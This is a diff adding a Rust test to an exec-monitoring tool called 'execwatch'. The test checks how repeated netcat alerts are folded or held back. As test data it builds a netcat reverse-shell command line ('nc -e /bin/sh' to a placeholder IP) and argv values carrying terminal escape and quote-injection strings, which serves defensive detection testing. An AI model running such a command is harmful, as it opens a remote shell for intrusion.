@@ -13,6 +13,7 @@ use execwatch::alert::{Clock, Host, Matched, Notice, Record, ecs, people, text};
 use execwatch::calendar::LocalTime;
 use execwatch::diagnostics::Diagnostics;
 use execwatch::evaluate::Evaluator;
+use execwatch::fold::{Admission, Folder, Settings};
 use execwatch::followup::known::{Child, Known, Seen};
 use execwatch::followup::look::{Io, Source};
 use execwatch::followup::record::{Alerted, FollowUp, Occasion};
@@ -325,6 +326,44 @@ fn forms_of_an_alert() {
             .unwrap_or_else(|| panic!("no rule matches {name}"));
         forms(name, &Record::Alert(Box::new(alert)))
     }));
+}
+
+/// Netcat again and again, and then so many different ones that some are held back.
+#[test]
+fn forms_of_what_was_folded() {
+    let surroundings = Surroundings {
+        accounts: Accounts { users: Names::new(folder().join("passwd")), groups: Names::new("/dev/null") },
+        namespaces: HOST_NAMESPACES,
+        processes: Box::new(Told),
+        files: Arc::default(),
+    };
+    let mut evaluator = Evaluator::new(Arc::new(rules()));
+    let mut folder = Folder::new(Settings { at_most: 3, ..Settings::default() });
+    let mut admit = |argv: &[&[u8]], milliseconds: u64| {
+        let mut exec = far_away();
+        exec.image = Image::new(Some(b"/usr/bin/nc.traditional"), Some(argv));
+        exec.timestamp_ns += milliseconds * 1_000_000;
+        let alert = evaluator.evaluate(&exec, &surroundings, &Started2026).alert.unwrap();
+        folder.admit(&alert, exec.timestamp_ns)
+    };
+    let kept =
+        |port: &str| [&b"nc"[..], b"-e", b"/bin/sh", b"203.0.113.5", port.as_bytes()].map(<[u8]>::to_vec);
+    for (at, port) in (0..9).map(|at| (at, (4440 + at / 2).to_string())) {
+        let argv = kept(&port);
+        let argv: Vec<&[u8]> = argv.iter().map(Vec::as_slice).collect();
+        let expected = if at == 0 { Admission::Told } else { Admission::Repeated };
+        assert_eq!(admit(&argv, at), expected);
+    }
+    for (at, word) in ["a", "b", "c\x1b[2J\n", "d \" x=", "e", "f", "g", "h"].into_iter().enumerate() {
+        let expected = if at < 2 { Admission::Told } else { Admission::HeldBack };
+        assert_eq!(admit(&[b"nc", b"-e", word.as_bytes()], 100 + at as u64), expected);
+    }
+    let due = folder.due(0, true);
+    assert_eq!(due.iter().map(|folded| folded.count).collect::<Vec<_>>(), [8, 6]);
+    let names = due.iter().map(|folded| format!("folded-{}", folded.why.as_str()));
+    all_equal(
+        names.zip(&due).flat_map(|(name, folded)| forms(&name, &Record::Folded(Box::new(folded.clone())))),
+    );
 }
 
 #[test]
